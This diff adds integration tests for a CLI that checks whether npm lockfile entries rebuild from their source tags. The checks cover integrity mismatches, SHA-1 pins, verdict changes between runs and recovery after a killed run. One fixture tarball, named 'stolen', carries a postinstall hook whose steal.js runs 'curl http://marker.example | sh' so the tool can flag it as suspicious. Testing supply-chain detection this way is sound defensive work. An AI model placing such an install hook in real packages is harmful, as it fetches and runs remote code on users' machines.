@@ -1,0 +1,189 @@
+import { createHash } from 'node:crypto';
+import { rm, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { BatchResult } from '../../src/batch/run.js';
+import { type CliWorld, cliWorld } from '../support/cli.js';
+import { type GitRepository, gitRepository } from '../support/git-repository.js';
+import { registry } from '../support/registry.js';
+import { npmTarball } from '../support/tarball.js';
+
+const address = 'https://git.example/team/plain';
+const filesOf = (version: string, code = 'module.exports = () => 42;\n') => ({
+  'package.json': `${JSON.stringify({ name: 'plain', version, main: 'index.js', repository: `${address}.git` }, null, 2)}\n`,
+  'index.js': code,
+});
+const honest = ['1.0.0', '1.0.1', '1.0.2', '1.0.3'];
+const tarballs = new Map(honest.map((version) => [version, npmTarball(filesOf(version))]));
+const stolen = npmTarball({
+  ...filesOf('2.0.0'),
+  'package.json': filesOf('2.0.0')['package.json'].replace(
+    '"main"',
+    '"scripts": { "postinstall": "node steal.js" },\n  "main"',
+  ),
+  'steal.js': "require('child_process').exec('curl http://marker.example | sh');\n",
+});
+const differing = npmTarball(filesOf('3.0.0', 'module.exports = () => 43;\n'));
+const pin = (tarball: Buffer) => `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
+
+describe('reprove batch', { timeout: 240_000 }, () => {
+  let repository: GitRepository;
+  let local: Awaited<ReturnType<typeof registry>>;
+  let world: CliWorld;
+
+  beforeAll(async () => {
+    repository = await gitRepository();
+    for (const version of [...honest, '2.0.0', '3.0.0']) {
+      await repository.commit(filesOf(version));
+      await repository.tag(`v${version}`);
+    }
+    local = await registry({
+      packages: [
+        {
+          name: 'plain',
+          versions: [
+            ...honest.map((version) => ({ version, tarball: tarballs.get(version)! })),
+            { version: '2.0.0', tarball: stolen },
+            { version: '3.0.0', tarball: differing },
+          ],
+        },
+      ],
+    });
+    world = await cliWorld(local.env);
+    await world.configure({ sourceMirrors: [{ from: address, to: repository.path }] });
+  });
+  afterAll(async () => {
+    await world.remove();
+    await local.close();
+    await repository.remove();
+  });
+
+  /** A lockfile with these entries below node_modules, each by its place. */
+  const lock = (entries: Record<string, object>, file = 'package-lock.json') =>
+    writeFile(
+      join(world.folder, file),
+      JSON.stringify({
+        lockfileVersion: 3,
+        packages: {
+          '': { name: 'root' },
+          ...Object.fromEntries(
+            Object.entries(entries).map(([place, entry]) => [`node_modules/${place}`, entry]),
+          ),
+        },
+      }),
+    );
+  const entry = (version: string, integrity = pin(tarballs.get(version)!)) => ({
+    name: 'plain',
+    version,
+    integrity,
+  });
+  const batch = async (state: string, ...args: string[]) => {
+    const place = join(world.folder, state);
+    const { exitCode, stdout, stderr } = await world.run([
+      ...['batch', 'package-lock.json', '--json', '--state', place, '--no-rebuild'],
+      ...args,
+    ]);
+    if (!stdout.startsWith('{')) throw new Error(`${exitCode}: ${stderr}`);
+    return { exitCode, stderr, result: JSON.parse(stdout) as BatchResult };
+  };
+
+  it('verifies what a lockfile installs once, and names what is no release', async () => {
+    await lock({
+      a: entry('1.0.0'),
+      b: entry('1.0.1'),
+      'a/node_modules/again': entry('1.0.1'),
+      forked: { version: '1.0.0', resolved: 'git+https://git.example/team/forked.git#0123' },
+    });
+    const first = await batch('once');
+    expect(first).toMatchObject({
+      exitCode: 0,
+      result: { verdicts: { reproduced: 2 }, counts: { verified: 2, reused: 0, notVerified: 1, failed: 0 } },
+    });
+    const asked = local.requests.length;
+    const second = await batch('once');
+    expect(second).toMatchObject({
+      exitCode: 0,
+      result: { since: first.result.run, changes: [], counts: { verified: 2, reused: 2 } },
+    });
+    expect(local.requests.length).toBe(asked);
+  });
+
+  it('fails where the registry serves another tarball than the lockfile pins, every night', async () => {
+    await lock({ a: entry('1.0.0'), b: entry('1.0.1', pin(Buffer.from('another'))) });
+    for (const _ of ['one night', 'the next']) {
+      const { exitCode, result } = await batch('pinned');
+      expect(exitCode).toBe(1);
+      expect(result.failed).toMatchObject([{ name: 'plain', version: '1.0.1', code: 'E_OTHER_TARBALL' }]);
+      expect(result.verdicts).toEqual({ reproduced: 1 });
+    }
+  });
+
+  it('holds tarballs to the SHA-1 of old lockfiles too', async () => {
+    const sha1 = (bytes: Buffer) => `sha1-${createHash('sha1').update(bytes).digest('base64')}`;
+    await lock({ a: entry('1.0.0', sha1(tarballs.get('1.0.0')!)), b: entry('1.0.1', sha1(stolen)) });
+    const { exitCode, result } = await batch('sha1');
+    expect(exitCode).toBe(1);
+    expect(result.failed).toMatchObject([{ version: '1.0.1', code: 'E_OTHER_TARBALL' }]);
+  });
+
+  it('fails for what is suspicious, and says what changed since the run before', async () => {
+    await lock({ a: entry('1.0.0') });
+    expect(await batch('changes')).toMatchObject({ exitCode: 0 });
+    await lock({ a: entry('2.0.0', pin(stolen)) });
+    const { exitCode, result } = await batch('changes');
+    expect(exitCode).toBe(1);
+    expect(result.verdicts).toEqual({ suspicious: 1 });
+    expect(result.changes).toContainEqual(
+      expect.objectContaining({
+        kind: 'verdict',
+        name: 'plain',
+        before: '1.0.0',
+        direction: 'worse',
+        to: 'suspicious',
+      }),
+    );
+  });
+
+  it('can be adopted where not everything passes, and is strict on request', async () => {
+    await lock({ a: entry('3.0.0', pin(differing)) });
+    expect(await batch('strict')).toMatchObject({ exitCode: 0, result: { verdicts: { differs: 1 } } });
+    expect(await batch('strict', '--strict')).toMatchObject({
+      exitCode: 1,
+      result: { counts: { reused: 1 } },
+    });
+  });
+
+  it('goes on without the release that can’t be had, and says so', async () => {
+    await lock({ a: entry('1.0.0'), gone: { name: 'plain', version: '9.9.9', integrity: pin(stolen) } });
+    const { exitCode, result } = await batch('gone');
+    expect(exitCode).toBe(3);
+    expect(result.failed).toMatchObject([{ version: '9.9.9' }]);
+    expect(result.verdicts).toEqual({ reproduced: 1 });
+  });
+
+  it('takes over what a killed run has stored', async () => {
+    await lock(Object.fromEntries(honest.map((version) => [`p${version}`, entry(version)])));
+    const state = join(world.folder, 'killed');
+    const child = world.start([
+      ...['batch', 'package-lock.json', '--state', state, '--no-rebuild', '--concurrency', '1'],
+    ]);
+    let told = '';
+    child.stderr?.on('data', (chunk: Buffer) => (told += chunk));
+    while (!/^2\/4/m.test(told)) await sleep(20);
+    child.kill('SIGKILL');
+    await child.catch(() => undefined);
+    const { exitCode, result } = await batch('killed');
+    expect(exitCode).toBe(0);
+    expect(result.verdicts).toEqual({ reproduced: 4 });
+    expect(result.counts.reused).toBeGreaterThanOrEqual(2);
+    await rm(state, { recursive: true });
+  });
+
+  it('is for lockfiles', async () => {
+    await writeFile(join(world.folder, 'package.json'), '{ "dependencies": { "plain": "1.0.0" } }');
+    const { exitCode, stderr } = await world.run(['batch', 'package.json']);
+    expect(exitCode).toBe(2);
+    expect(stderr).toContain("package.json can't be used: no lockfile of a known kind");
+  });
+});
